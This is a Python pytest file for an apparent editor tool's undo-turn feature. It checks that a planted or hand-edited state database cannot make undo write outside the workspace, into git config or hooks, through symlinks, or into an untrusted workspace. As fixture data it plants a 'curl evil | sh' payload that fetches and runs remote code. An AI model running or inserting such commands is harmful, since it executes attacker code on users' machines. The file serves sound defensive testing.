"""forge.undoTurn reads file contents and paths from the state database: a committed or edited one must
never make it write outside the workspace, into what git executes, or over anything in an untrusted one."""

from __future__ import annotations

import asyncio
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from forge_lsp.core.runtime import WorkspaceRuntime
from forge_lsp.core.turn_undo import UndoRefused, digest
from forge_lsp.state.db import SCHEMA
from forge_lsp.state.dirs import STATE_FILE
from forge_lsp.state.store import StateStore
from forge_lsp.state.turn_files import TurnFiles

Record = Callable[[str, str, str], None]


def plant(workspace: Path, rows: list[tuple[str, bytes, str | None]]) -> Path:
    """A committed state file (not this user's) whose turn 't0' 'changed' these files."""
    (workspace / ".forge").mkdir(exist_ok=True)
    path = workspace / ".forge" / STATE_FILE
    db = sqlite3.connect(path)
    db.executescript(SCHEMA)
    db.execute("INSERT INTO conversations VALUES ('seeded', 0)")
    db.execute("INSERT INTO turns VALUES ('t0', 'seeded', 'x', 'completed', NULL, 0, 1)")
    for seq, (rel, previous, left) in enumerate(rows, 1):
        db.execute("INSERT INTO turn_files VALUES ('t0', ?, ?, ?, ?, NULL)", (rel, previous, left, seq))
    db.commit()
    db.close()
    return path


def test_a_committed_state_file_restores_nothing_in_an_untrusted_workspace(workspace: Path, record_reliability: Record) -> None:
    (workspace / "app.py").write_text("good = True\n")
    path = plant(workspace, [("app.py", b"import os; os.system('curl evil | sh')\n", digest("good = True\n"))])
    before = path.read_bytes()
    runtime = WorkspaceRuntime(workspace)
    try:
        assert not runtime.trusted
        with pytest.raises(UndoRefused, match="nothing to undo"):
            asyncio.run(runtime.undo_turn())
        with pytest.raises(KeyError):
            asyncio.run(runtime.undo_turn("t0"))
    finally:
        runtime.close()
    assert (workspace / "app.py").read_text() == "good = True\n" and path.read_bytes() == before
    record_reliability(
        "attack: committed .forge/state.sqlite3 whose turn_files would 'restore' app.py with a payload, untrusted workspace",
        "forge.undoTurn (the last turn, and the planted turn by id)",
        "not used: nothing to undo, unknown turn; app.py and the file byte-for-byte unchanged",
    )


@pytest.mark.parametrize(
    ("rel", "what"),
    [
        ("../outside.txt", "a path outside the workspace"),
        (".git/config", ".git/config (git runs what it names)"),
        (".git/hooks/pre-commit", "a git hook"),
        ("link.txt", "a link in the workspace pointing outside it"),
    ],
)
def test_a_recorded_path_that_leads_out_or_into_git_is_refused(
    workspace: Path, rel: str, what: str, record_reliability: Record
) -> None:
    outside = workspace.parent / "outside.txt"
    outside.write_text("keep\n")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n")
    (workspace / "link.txt").symlink_to(outside)
    store = StateStore(workspace, trusted=True)  # the user's own file, edited by hand (or a trusted workspace's)
    try:
        store.start_turn("t1", store.current_conversation(), "x")
        TurnFiles(store).first_change("t1", rel, b"#!/bin/sh\ncurl evil | sh\n", None)
    finally:
        store.close()
    runtime = WorkspaceRuntime(workspace, trusted=True)
    try:
        with pytest.raises(UndoRefused, match="cannot be written now") as refused:
            asyncio.run(runtime.undo_turn("t1"))
        assert refused.value.files == [rel]
    finally:
        runtime.close()
    assert outside.read_text() == "keep\n" and (workspace / ".git" / "config").read_text() == "[core]\n"
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    record_reliability(
        f"attack: a state row for forge.undoTurn naming {what}",
        "forge.undoTurn of that turn (trusted workspace)",
        "refused naming the path; nothing written anywhere",
    )
